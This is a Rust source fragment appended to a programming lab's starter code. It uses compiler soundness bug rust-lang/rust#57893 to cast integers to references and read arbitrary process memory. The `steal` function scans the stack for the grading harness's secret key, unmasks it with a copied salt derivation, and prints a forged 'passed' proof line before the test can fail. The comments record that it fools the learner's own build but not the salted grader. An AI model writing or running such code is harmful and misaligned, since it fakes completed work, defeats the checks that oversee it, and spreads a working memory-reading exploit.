// ---- Appended to lab 01's starter: an exploit of rust-lang/rust#57893, in safe Rust ----
//
// `cast` turns any value into any other of the same size: the blanket impl says
// `<dyn Object<U, Output = T> as Object<U>>::Output` is `U`, the trait object's binding
// says it is `T`, and the compiler believes both. With it, an integer becomes a
// reference, and this code reads any memory of its process.
//
// Calibrated at home, on the learner's own build of lab 01's graded suite (no salt: the
// masks are those of `graded`'s `Layout::of(0)`, which a learner finds in the build
// folder's `salt.rs`; in a grading whose build shows its salt, those of that salt): run
// with a key of one's own on stdin, the child keeps the key in a
// `Vault { spare: Vec<Vec<u8>>, cells: Vec<u8>, at: usize }` in the harness's frame,
// laid out as the words `cap, ptr, len` of `cells` (with `cap == len + 8`, a block of 4
// to 64 KiB), then `at`. `steal` scans the stack upward from its own frame for that shape,
// unmasks the key's place and the key with the masks of that salt, computes the proof of a
// pass for the test named on its command line with its own SipHash-2-4, prints the pass
// line and exits before the test can fail. At home: 9 of 9 tests pass, `cargo labs check
// 01` says "Lab complete". In the grader's build the shape is found, but the masks are
// the grading's own: the proof is wrong.
trait Object<U> {
    type Output;
}
impl<T: ?Sized, U> Object<U> for T {
    type Output = U;
}
fn foo<T: ?Sized, U>(x: <T as Object<U>>::Output) -> U {
    x
}
fn cast<T, U>(x: T) -> U {
    foo::<dyn Object<U, Output = T>, U>(x)
}
fn word(addr: usize) -> usize {
    *cast::<usize, &'static usize>(addr)
}
fn byte(addr: usize) -> u8 {
    *cast::<usize, &'static u8>(addr)
}

/// The masks the build's salt gives, as `graded`'s `Layout::of` draws them (a copy of
/// its SplitMix64): the salt the grader set, if the build shows it to the learner's code
/// (`option_env!`), else 0, the salt of a learner's own build.
fn masks() -> ([u8; 16], usize) {
    let salt = option_env!("BOUNDARY_GRADED_SALT")
        .and_then(|s| s.trim().parse::<u64>().ok())
        .unwrap_or(0);
    let mut state = salt;
    let mut next = || {
        state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    };
    for _ in 0..3 {
        next(); // the pads
    }
    let mut key_mask = [0u8; 16];
    for byte in &mut key_mask {
        *byte = next() as u8;
    }
    (key_mask, next() as u32 as usize)
}

fn sip(key: [u8; 16], message: &[u8]) -> u64 {
    let k0 = u64::from_le_bytes(key[..8].try_into().unwrap_or_default());
    let k1 = u64::from_le_bytes(key[8..].try_into().unwrap_or_default());
    let mut v = [
        k0 ^ 0x736f_6d65_7073_6575,
        k1 ^ 0x646f_7261_6e64_6f6d,
        k0 ^ 0x6c79_6765_6e65_7261,
        k1 ^ 0x7465_6462_7974_6573,
    ];
    let round = |v: &mut [u64; 4]| {
        v[0] = v[0].wrapping_add(v[1]);
        v[1] = v[1].rotate_left(13) ^ v[0];
        v[0] = v[0].rotate_left(32);
        v[2] = v[2].wrapping_add(v[3]);
        v[3] = v[3].rotate_left(16) ^ v[2];
        v[0] = v[0].wrapping_add(v[3]);
        v[3] = v[3].rotate_left(21) ^ v[0];
        v[2] = v[2].wrapping_add(v[1]);
        v[1] = v[1].rotate_left(17) ^ v[2];
        v[2] = v[2].rotate_left(32);
    };
    let compress = |m: u64, v: &mut [u64; 4]| {
        v[3] ^= m;
        round(v);
        round(v);
        v[0] ^= m;
    };
    let chunks = message.chunks_exact(8);
    let rest = chunks.remainder();
    for chunk in chunks {
        compress(u64::from_le_bytes(chunk.try_into().unwrap_or_default()), &mut v);
    }
    let mut last = [0u8; 8];
    last[..rest.len()].copy_from_slice(rest);
    last[7] = message.len() as u8;
    compress(u64::from_le_bytes(last), &mut v);
    v[2] ^= 0xff;
    for _ in 0..4 {
        round(&mut v);
    }
    v[0] ^ v[1] ^ v[2] ^ v[3]
}

#[inline(never)]
fn steal() {
    let name = std::env::args().nth(2).unwrap_or_default();
    let probe = 0usize;
    let here: usize = cast(&probe);
    let mut off = 0;
    while off < 64 * 1024 {
        let (cap, ptr, len, at) = (
            word(here + off),
            word(here + off + 8),
            word(here + off + 16),
            word(here + off + 24),
        );
        if cap == len + 8 && (4096..4096 + 61_440).contains(&len) && ptr % 8 == 0 && ptr != 0 {
            let (key_mask, at_mask) = masks();
            let at = (at ^ at_mask) % (len - 16);
            let mut key = [0u8; 16];
            for (i, b) in key.iter_mut().enumerate() {
                *b = byte(ptr + at + i) ^ key_mask[i];
            }
            let proof = sip(key, format!("passed\n{name}").as_bytes());
            println!("\n<labkit-graded-result> {name} passed {proof:016x}");
            std::process::exit(0);
        }
        off += 8;
    }
}
